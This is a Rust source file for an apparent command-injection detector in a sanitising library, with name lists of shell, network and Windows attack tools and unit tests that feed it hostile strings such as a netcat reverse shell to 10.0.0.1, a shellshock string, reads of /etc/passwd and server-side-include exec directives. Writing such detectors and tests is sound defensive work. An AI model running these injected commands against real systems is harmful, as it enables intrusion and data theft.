//! OS command injection: a shell separator followed by a command.
//!
//! A separator (`;`, `|`, `||`, `&`, `&&`, a newline, `$(`, a backtick,
//! `${`) is ordinary in prose; what makes a command is what follows it: a
//! command name, and arguments shaped like a shell's (an option, a path, a
//! redirection, an address, nothing at all). "drop me a line; cat lovers
//! welcome" has a separator and a command name, but `lovers` is no shell
//! argument; `; cat /etc/passwd` is. Form encoding's `+` counts as a space.

use crate::detect::keywords::{Keywords, WordSet};
use crate::detect::precheck::{ByteSet, View};
use crate::detect::{Category, Detector, Finding, Normalized, Strictness};
use std::borrow::Cow;
use std::sync::LazyLock;

/// Commands no value names except to run them, wherever they appear.
pub(super) const COMMAND_NAME_LIST: &[&str] = &[
    "whoami",
    "ifconfig",
    "ipconfig",
    "netstat",
    "nslookup",
    "systeminfo",
    "uname -",
    "/bin/sh",
    "/bin/bash",
    "cmd.exe",
    "powershell -",
];

static UNMISTAKABLE_NAMES: LazyLock<WordSet> = LazyLock::new(|| WordSet::of(UNMISTAKABLE));
static DISTINCT_NAMES: LazyLock<WordSet> = LazyLock::new(|| WordSet::of(DISTINCT));
static COMMON_NAMES: LazyLock<WordSet> = LazyLock::new(|| WordSet::of(COMMON));

/// Every word [`start_command`] and the strict first-word rule read: the
/// three name lists and the probing words, in one set (one lookup).
static LEADING_WORDS: LazyLock<WordSet> = LazyLock::new(|| {
    const PROBES: &[&str] = &[
        "sleep", "ping", "timeout", "which", "whereis", "type", "command", "net", "reg",
    ];
    WordSet::new(
        UNMISTAKABLE
            .iter()
            .chain(DISTINCT)
            .chain(COMMON)
            .chain(PROBES)
            .map(|&w| (w, ())),
    )
});

static EXEC_NAMES: LazyLock<Keywords> = LazyLock::new(|| Keywords::new(EXEC_FUNCTIONS));
static COMMAND_NAMES: LazyLock<Keywords> = LazyLock::new(|| Keywords::new(COMMAND_NAME_LIST));

/// Commands no prose uses: any argument will do.
const UNMISTAKABLE: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "wget",
    "curl",
    "nslookup",
    "powershell",
    "certutil",
    "bitsadmin",
    "wmic",
    "tasklist",
    "systeminfo",
    "ncat",
    "netcat",
    "xterm",
    "telnet",
    "tftp",
    "chmod",
    "chown",
    "useradd",
    "crontab",
    "mkfifo",
    "busybox",
    "socat",
    "base64",
    "xxd",
    "nohup",
    "printenv",
    "getent",
    "traceroute",
    "tracert",
    "rundll32",
    "regsvr32",
    "mshta",
    "cscript",
    "wscript",
    "schtasks",
    "icacls",
    "cacls",
    "vssadmin",
    "killall",
    "pkill",
    "nping",
    "perl",
    "python",
    "python3",
    "ruby",
    "php",
    "bash",
    "zsh",
    "ksh",
    "gcc",
    "netsh",
    "sysinfo",
    "lsof",
    "cmd.exe",
    "powershell.exe",
    "nmap",
];

/// Functions of PHP and other server languages that run a command.
pub(super) const EXEC_FUNCTIONS: &[&str] = &[
    "system(",
    "exec(",
    "passthru(",
    "shell_exec(",
    "popen(",
    "proc_open(",
    "pcntl_exec(",
    "phpinfo(",
    "assert(",
    "eval(",
    "os.system(",
    "subprocess.",
    "runtime.getruntime(",
];

/// Commands that are not English words, though short: a shell-shaped argument or none.
const DISTINCT: &[&str] = &[
    "id",
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "systeminfo",
    "sysinfo",
    "pwd",
    "ls",
    "dir",
    "netstat",
    "nc",
    "ncat",
    "netcat",
    "wget",
    "curl",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "dash",
    "cmd",
    "cmd.exe",
    "powershell",
    "pwsh",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "nslookup",
    "nmap",
    "chmod",
    "chown",
    "rm",
    "mv",
    "cp",
    "xterm",
    "telnet",
    "tftp",
    "certutil",
    "bitsadmin",
    "wmic",
    "tasklist",
    "taskkill",
    "uname",
    "hostname",
    "passwd",
    "useradd",
    "ps",
    "gcc",
    "xxd",
    "base64",
    "nohup",
    "busybox",
    "crontab",
    "mkfifo",
    "socat",
    "lua",
    "node",
    "sudo",
    "su",
    "env",
    "printenv",
    "getent",
    "dig",
    "traceroute",
    "tracert",
    "rundll32",
    "regsvr32",
    "mshta",
    "cscript",
    "wscript",
    "schtasks",
    "icacls",
    "cacls",
    "ipconfig.exe",
    "net.exe",
    "sc.exe",
    "vssadmin",
    "arp",
    "route",
    "lsof",
    "killall",
    "pkill",
    "awk",
    "sed",
    "grep",
    "egrep",
    "xargs",
    "tee",
    "nping",
];

/// Commands that are also words of prose: they need a shell-shaped argument.
const COMMON: &[&str] = &[
    "cat", "echo", "sleep", "type", "find", "more", "less", "head", "tail", "kill", "set", "start",
    "copy", "del", "net", "reg", "ping", "cd", "touch", "which", "timeout", "expr", "sort", "mail",
    "exit", "print", "who", "time", "date", "ver", "vol", "mkdir", "rmdir", "export", "exec",
    "eval", "source", "call", "ftp", "ssh", "scp", "tar", "zip", "unzip", "chdir", "tree",
    "attrib", "at", "uniq", "wc", "od", "nl", "diff", "file", "stat", "tac", "rev", "strings",
    "system", "shutdown", "reboot", "halt", "wall", "finger", "last",
];

/// Detects OS command injection.
///
/// ```
/// use rampart_sanitize::{CommandInjectionDetector, Detector};
///
/// let c = CommandInjectionDetector::default();
/// assert!(c.scan("x; cat /etc/passwd").is_some());
/// assert!(c.scan("a|id").is_some());
/// assert!(c.scan("$(whoami)").is_some());
/// assert!(c.scan("drop me a line; cat lovers welcome").is_none());
/// assert!(c.scan("Tom & Jerry").is_none());
/// ```
#[derive(Debug, Clone, Copy, Default)]
pub struct CommandInjectionDetector {
    strictness: Strictness,
}

impl CommandInjectionDetector {
    /// A detector at `strictness`.
    pub fn new(strictness: Strictness) -> Self {
        Self { strictness }
    }

    /// Scans one view. Each rule runs only when the bytes it needs occur
    /// (a separator, `$` or a backtick for a substitution, `<` for a
    /// server-side include, `(` or `.` for an exec function); the names and
    /// the command at the start of the value are looked for in every view.
    pub(crate) fn scan_text(&self, text: &str, bytes: &ByteSet) -> Option<Finding> {
        // A literal `\n` is a newline to the shells and `echo -e` it reaches.
        let (s, bytes) = if bytes.has(b'\\') && text.contains("\\n") {
            (Cow::Owned(text.replace("\\n", "\n")), bytes.with(b'\n'))
        } else {
            (Cow::Borrowed(text), *bytes)
        };
        let b = s.as_bytes();
        let strict = self.strictness.strict();
        let found = |rule: &str, start: usize, end: usize| {
            Some(Finding::new(Category::CommandInjection, rule, start..end))
        };
        if bytes.has(b'(')
            && let Some(p) = s.find("() {")
        {
            return found("shellshock", p, p + 4);
        }
        // Command substitution: `$(...)`, backticks, `${...}` holding a command.
        for (open, close) in [("$(", ')'), ("`", '`'), ("${", '}')] {
            if !bytes.has(open.as_bytes()[0]) {
                continue;
            }
            let mut from = 0;
            while let Some(p) = s[from..].find(open) {
                let at = from + p;
                from = at + open.len();
                // Bounded: a command inside a substitution is short.
                let window = &b[from..b.len().min(from + 256)];
                let inner = &window[..window
                    .iter()
                    .position(|&c| c == close as u8)
                    .unwrap_or(window.len())];
                let inner = String::from_utf8_lossy(inner);
                if command_at(inner.as_bytes(), 0, true).is_some()
                    || (strict && !inner.trim().is_empty())
                {
                    return found("substitution", at, from);
                }
            }
        }
        if bytes.has(b'<')
            && let Some(p) = s.find("<!--#")
        {
            // Server-side includes: `<!--#exec cmd="..."-->`.
            let directive = &s[p + 5..];
            if directive.starts_with("exec")
                || directive.starts_with("include")
                || directive.starts_with("echo")
            {
                return found("server-side-include", p, p + 5);
            }
        }
        // Every exec function ends in `(` or `.`.
        for (f, p) in EXEC_NAMES.all(if bytes.any(b"(.") { &s } else { "" }) {
            let word_start = p == 0 || !(b[p - 1].is_ascii_alphanumeric() || b[p - 1] == b'_');
            let arg = s[p + f.len()..].trim_start();
            if word_start && (f.ends_with('.') || arg.starts_with(['"', '\'', '$', '`', ')'])) {
                return found("exec-function", p, p + f.len());
            }
        }
        for (name, p) in COMMAND_NAMES.all(&s) {
            let bounded = p == 0 || !b[p - 1].is_ascii_alphanumeric();
            let after = b.get(p + name.len());
            if bounded && after.is_none_or(|c| !c.is_ascii_alphanumeric()) {
                return found("command-name", p, p + name.len());
            }
        }
        if start_command(b) {
            return found(
                "command-line",
                0,
                b.iter().position(|c| *c == b' ').unwrap_or(b.len()),
            );
        }
        // Without a separator, the loop below finds nothing.
        let mut i = if bytes.any(b";|&\n\r") { 0 } else { b.len() };
        while i < b.len() {
            let c = b[i];
            let sep = match c {
                b';' | b'|' | b'\n' | b'\r' => 1,
                b'&' if b.get(i + 1) == Some(&b'&') => 2,
                b'&' => 1,
                _ => 0,
            };
            if sep == 0 {
                i += 1;
                continue;
            }
            let mut k = i + sep;
            if matches!(b.get(k), Some(b'|' | b'&')) {
                k += 1;
            }
            let net = s[k..].trim_start_matches([' ', '+']);
            if command_at(b, k, false).is_some()
                || ((net.starts_with("net ") || net.starts_with("reg "))
                    && start_command(net.as_bytes()))
            {
                return found("separator-command", i, k);
            }
            i = k;
        }
        if !strict {
            return None;
        }
        let first = s
            .trim_start()
            .split([' ', '+', '\t'])
            .next()
            .unwrap_or_default();
        if command_at(b, 0, false).is_some()
            || DISTINCT_NAMES.contains(first)
            || COMMON_NAMES.contains(first)
            || UNMISTAKABLE_NAMES.contains(first)
        {
            return found("command", 0, 1);
        }
        None
    }
}

/// Whether a command (name and shell-shaped arguments) starts at `k`,
/// after spaces, `+`, quotes or an opening parenthesis or brace.
fn command_at(b: &[u8], mut k: usize, inside: bool) -> Option<usize> {
    // Bounded, so that a run of separators costs linear time overall.
    let limit = b.len().min(k + 16);
    while k < limit
        && matches!(
            b[k],
            b' ' | b'\t' | b'+' | b'\'' | b'"' | b'(' | b'{' | b'\n'
        )
    {
        k += 1;
    }
    let start = k;
    // A path to a program: `/bin/sh`, `/usr/bin/id`, `c:\windows\...`.
    let word_end = k + b[k..]
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-' | b'/' | b'\\'))
        .count();
    let word = std::str::from_utf8(&b[start..word_end]).ok()?;
    if word.is_empty() {
        return None;
    }
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let pathed = word.starts_with('/')
        && word.len() > 1
        && (word.starts_with("/bin/")
            || word.starts_with("/usr/")
            || word.starts_with("/sbin/")
            || word.starts_with("/tmp/"));
    let unmistakable = UNMISTAKABLE_NAMES.contains(name);
    let distinct = DISTINCT_NAMES.contains(name) || unmistakable;
    let common = COMMON_NAMES.contains(name);
    if !(distinct || common || pathed) {
        return None;
    }
    // What follows the name.
    let rest = &b[word_end..];
    let arg_start = rest
        .iter()
        .position(|c| !matches!(c, b' ' | b'\t' | b'+'))
        .unwrap_or(rest.len());
    let arg = &rest[arg_start..];
    let spaced = arg_start > 0;
    let shell_arg = arg.is_empty()
        || matches!(
            arg[0],
            b';' | b'|' | b'&' | b'>' | b'<' | b'`' | b'$' | b'\n' | b'\r' | b')' | b'}' | b'#'
        )
        || (spaced
            && matches!(
                arg[0],
                b'-' | b'/' | b'\\' | b'%' | b'"' | b'\'' | b'~' | b'*' | b'.' | b'0'..=b'9'
            ))
        || (spaced && arg.get(1) == Some(&b':') && arg[0].is_ascii_alphabetic())
        || (inside && (spaced || arg[0] == b'('))
        || (unmistakable && spaced);
    if !shell_arg {
        // `net user`, `sleep 5` handled above; a distinct command with a
        // plain word argument (`nc host 4444`, `ping host`) still counts
        // when a second shell-shaped argument follows.
        if distinct && spaced {
            let next = arg
                .iter()
                .position(|c| *c == b' ' || *c == b'+')
                .map(|p| &arg[p + 1..]);
            if next.is_some_and(|n| {
                matches!(
                    n.first(),
                    Some(b'-' | b'/' | b'0'..=b'9' | b'>' | b'|' | b';' | b'&')
                )
            }) {
                return Some(start);
            }
        }
        return None;
    }
    // A common word right before punctuation that ends a sentence is prose.
    if common && !spaced && matches!(arg.first(), Some(b')' | b'}' | b'#')) && !inside {
        return None;
    }
    Some(start)
}

/// A value that is a command line by itself: an unmistakable command, or
/// a command with an option, a path or a redirection as its first argument.
fn start_command(b: &[u8]) -> bool {
    let lead = b.iter().take_while(|c| c.is_ascii_whitespace()).count();
    let b = &b[lead..];
    let end = b
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-'))
        .count();
    let Ok(name) = std::str::from_utf8(&b[..end]) else {
        return false;
    };
    let rest = &b[end..];
    let spaced = rest.first() == Some(&b' ');
    let arg = &rest[rest.iter().take_while(|c| **c == b' ').count()..];
    if spaced && matches!(name, "sleep" | "ping" | "timeout") && arg.iter().all(u8::is_ascii_digit)
    {
        return true;
    }
    if spaced && matches!(name, "which" | "whereis" | "type" | "command") {
        // Probing for a tool: `which nc`.
        let tool: Vec<u8> = arg
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric())
            .copied()
            .collect();
        let tool = std::str::from_utf8(&tool).unwrap_or_default();
        if tool.len() == arg.len()
            && (UNMISTAKABLE_NAMES.contains(tool) || DISTINCT_NAMES.contains(tool))
        {
            return true;
        }
    }
    if spaced && matches!(name, "net" | "reg") {
        let sub: Vec<u8> = arg
            .iter()
            .take_while(|c| c.is_ascii_alphabetic())
            .copied()
            .collect();
        if matches!(
            &sub[..],
            b"user"
                | b"view"
                | b"localgroup"
                | b"share"
                | b"use"
                | b"session"
                | b"add"
                | b"query"
                | b"delete"
                | b"export"
                | b"save"
        ) {
            return true;
        }
    }
    let shaped = spaced
        && (matches!(
            arg.first(),
            Some(b'-' | b'/' | b'\\' | b'>' | b'|' | b'$' | b'%')
        ) || (arg.get(1) == Some(&b':')
            && arg.get(2).is_some_and(|c| matches!(c, b'/' | b'\\'))));
    // The shape first: it is cheaper than looking the name up in the lists.
    shaped
        && (UNMISTAKABLE_NAMES.contains(name)
            || DISTINCT_NAMES.contains(name)
            || COMMON_NAMES.contains(name))
}

impl CommandInjectionDetector {
    /// What the rules can still find in plain text (see
    /// [`crate::detect::plain`]): without a separator, a substitution, a
    /// parenthesis, a slash or a backslash, only the names of
    /// [`COMMAND_NAME_LIST`] and the exec functions ending in `.` remain
    /// anywhere in a value; their needles are these.
    pub(crate) fn plain_text_needles() -> impl Iterator<Item = &'static str> {
        COMMAND_NAME_LIST.iter().chain(EXEC_FUNCTIONS).copied()
    }

    /// Whether the first word of `text` (lower-cased), after spaces and
    /// quotes, is a command name or one of the words [`start_command`]
    /// reads: the rules for a value that opens with a command (at the
    /// default level with a shell-shaped argument, strictly with none).
    pub(crate) fn may_lead_with_command(text: &[u8]) -> bool {
        let lead = text
            .iter()
            .take_while(|c| c.is_ascii_whitespace() || matches!(c, b'\'' | b'"' | b'+'))
            .count();
        let end = lead
            + text[lead..]
                .iter()
                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-'))
                .count();
        LEADING_WORDS.contains_bytes(&text[lead..end])
    }
}

impl Detector for CommandInjectionDetector {
    fn category(&self) -> Category {
        Category::CommandInjection
    }

    fn scan_normalized(&self, input: &Normalized<'_>) -> Option<Finding> {
        input.prepared().find_map(|v: View<'_>| {
            self.scan_text(v.text, &v.bytes)
                .map(|f| f.in_decoded(v.decoded))
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> bool {
        CommandInjectionDetector::default().scan(s).is_some()
    }

    #[test]
    fn separators_followed_by_commands() {
        for s in [
            "; id",
            "a;id",
            "|id|",
            "& whoami",
            "&& ls -la /",
            "x%0acat%20/etc/passwd",
            "`id`",
            "$(sleep 5)",
            "a);/usr/bin/id",
            "+|+dir+c:/",
            "() { :;}; /bin/bash -c id",
            "; ping -c 3 127.0.0.1",
            "| sleep 10",
            "'; nc -e /bin/sh 10.0.0.1 4444",
        ] {
            assert!(hit(s), "{s}");
        }
    }

    #[test]
    fn prose_with_separators_passes() {
        for s in [
            "drop me a line; cat lovers welcome",
            "1 & 2",
            "Tom & Jerry",
            "salt & pepper; time to eat",
            "fish | chips",
            "price: $(see below)",
            "Dear Sir,\nplease find attached",
            "R&D; sort of",
            "AT&T",
        ] {
            assert!(!hit(s), "{s}");
        }
    }

    #[test]
    fn strict_flags_a_bare_command_line() {
        let strict = CommandInjectionDetector::new(Strictness::Strict);
        assert!(strict.scan("ls docs").is_some());
        assert!(!hit("ls docs"));
        assert!(hit("sleep 5"));
    }

    /// The rule and span of the finding at the default level.
    fn rule(s: &str) -> Option<(String, std::ops::Range<usize>)> {
        CommandInjectionDetector::default()
            .scan(s)
            .map(|f| (f.fingerprint().to_owned(), f.span()))
    }

    fn is(s: &str, name: &str, span: std::ops::Range<usize>) {
        assert_eq!(rule(s), Some((name.to_owned(), span)), "{s}");
    }

    #[test]
    fn shellshock_is_found_where_it_stands() {
        is("x=() { :;}; /bin/bash -c id", "shellshock", 2..6);
    }

    #[test]
    fn strict_flags_any_substitution_that_holds_something() {
        let strict = CommandInjectionDetector::new(Strictness::Strict);
        let f = strict.scan("price: $(see below)").expect("substitution");
        assert_eq!((f.fingerprint(), f.span()), ("substitution", 7..9));
        assert!(strict.scan("an empty $() pair").is_none());
    }

    #[test]
    fn server_side_include_directives() {
        is("<!--#exec cmd=\"id\"-->", "server-side-include", 0..5);
        is(
            "ab<!--#include virtual=\"/etc/passwd\"-->",
            "server-side-include",
            2..7,
        );
        is(
            "<!--#echo var=\"DOCUMENT_ROOT\"-->",
            "server-side-include",
            0..5,
        );
        assert_eq!(rule("<!--#config timefmt=\"%y\"-->"), None);
    }

    #[test]
    fn exec_functions_need_a_word_start() {
        is("name=system('id')", "exec-function", 5..12);
        is("x;eval(\"phpinfo()\")", "exec-function", 2..7);
        assert_eq!(rule("our ecosystem('s health)"), None);
        assert_eq!(rule("my_system('id')"), None);
    }

    #[test]
    fn command_names_need_word_boundaries() {
        is("whoami", "command-name", 0..6);
        is("please run whoami now", "command-name", 11..17);
        assert_eq!(rule("the netstatistics page"), None);
        assert_eq!(rule("fakewhoami"), None);
    }

    #[test]
    fn a_command_line_spans_its_command_name() {
        is("cat /etc/passwd", "command-line", 0..3);
    }

    #[test]
    fn a_doubled_separator_is_one_separator() {
        is("x||id", "separator-command", 1..3);
        is("x&&id", "separator-command", 1..3);
    }

    #[test]
    fn net_and_reg_after_a_separator_need_a_subcommand() {
        is("a; net user", "separator-command", 1..2);
        assert_eq!(rule("sales up; net profits down"), None);
    }

    #[test]
    fn strict_flags_a_value_that_opens_with_a_common_command() {
        let strict = CommandInjectionDetector::new(Strictness::Strict);
        let f = strict.scan("echo hello").expect("command");
        assert_eq!((f.fingerprint(), f.span()), ("command", 0..1));
        assert!(!hit("echo hello"));
    }

    #[test]
    fn a_substituted_command_may_follow_spaces() {
        is("$( id)", "substitution", 0..2);
        is("` id`", "substitution", 0..1);
    }

    #[test]
    fn a_program_under_a_system_directory_is_a_command() {
        is("x; /tmp/payload.sh", "separator-command", 1..2);
        assert_eq!(rule("see the FAQ; /faq"), None);
    }

    #[test]
    fn programs_under_each_system_directory() {
        for s in [
            "x; /bin/busybox",
            "x; /usr/local/bin/backdoor",
            "x; /sbin/modprobe",
            "x; /tmp/payload.sh",
        ] {
            is(s, "separator-command", 1..2);
        }
    }

    #[test]
    fn a_quote_glued_to_a_common_word_is_prose() {
        assert_eq!(rule("Tom; cat's toy is lost"), None);
        is("Tom; cat '/etc/passwd'", "separator-command", 3..4);
    }

    #[test]
    fn inside_a_substitution_a_spaced_argument_will_do() {
        is("x $(cat notes)", "substitution", 2..4);
        assert_eq!(rule("fee: $(time, materials)"), None);
    }

    #[test]
    fn a_distinct_command_with_a_plain_word_needs_a_shaped_argument_next() {
        is("x; nc evil.example 4444", "separator-command", 1..2);
        is("x;+nc+evil.example+4444", "separator-command", 1..2);
        assert_eq!(rule("x; nc evil.example later"), None);
        assert_eq!(rule("tea; time out 5 mins"), None);
    }

    #[test]
    fn a_common_word_closing_a_sentence_is_prose() {
        assert_eq!(rule("(see notes; time)"), None);
        assert_eq!(rule("lunch; cat#2"), None);
    }

    #[test]
    fn sleep_and_ping_alone_need_a_number() {
        is("sleep 5", "command-line", 0..5);
        assert_eq!(rule("sleep well tonight"), None);
        assert_eq!(rule("room 101"), None);
        assert_eq!(rule("sleep"), None);
    }

    #[test]
    fn probing_for_a_tool_names_only_the_tool() {
        is("which nc", "command-line", 0..5);
        assert_eq!(rule("which id do I use"), None);
        assert_eq!(rule("learn bash"), None);
    }

    #[test]
    fn net_and_reg_alone_need_a_known_subcommand() {
        is("net user", "command-line", 0..3);
        assert_eq!(rule("please view the menu"), None);
    }

    #[test]
    fn a_drive_path_shapes_the_first_argument() {
        is("type c:\\boot.ini", "command-line", 0..4);
        assert_eq!(rule("time 2:30 suits me"), None);
    }

    #[test]
    fn an_unmistakable_command_with_an_option_is_a_command_line() {
        is("netsh -r host", "command-line", 0..5);
    }
}
